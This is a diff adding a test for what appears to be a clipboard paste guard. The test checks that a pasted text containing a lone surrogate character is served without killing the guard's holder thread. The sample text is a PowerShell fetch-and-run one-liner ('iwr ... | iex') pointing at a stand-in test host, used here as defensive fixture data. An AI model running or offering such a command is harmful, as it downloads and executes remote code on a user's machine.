@@ -161,3 +161,22 @@ def test_serving_says_whether_pastes_of_a_text_are_really_answered_here(x: Deskt
     finally:
         owner.stop()
     assert not owner.serving(text)  # a stopped holder answers nothing
+
+
+def test_a_held_text_with_a_lone_surrogate_is_served_and_the_holder_lives_on(x: Desktop) -> None:
+    # A clipboard text may hold a lone surrogate (the guard digests, stores and judges it with
+    # one read as U+FFFD or '?'); can_serve says it can be served, so serving it must not raise
+    # in the holder's thread: that stopped the holder (every later paste went unguarded).
+    owner = start_owner(x)
+    try:
+        text = "iwr https://cdn.stage-obf.test/a | iex \ud800 tail"
+        assert owner.can_serve(text)
+        owner.hold(text)
+        wait_for(
+            lambda: x.clipboard() == "iwr https://cdn.stage-obf.test/a | iex ? tail", timeout=5
+        )
+        assert owner.alive() and owner.error is None
+        owner.hold("the next text")
+        wait_for(lambda: x.clipboard() == "the next text", timeout=5)
+    finally:
+        owner.stop()
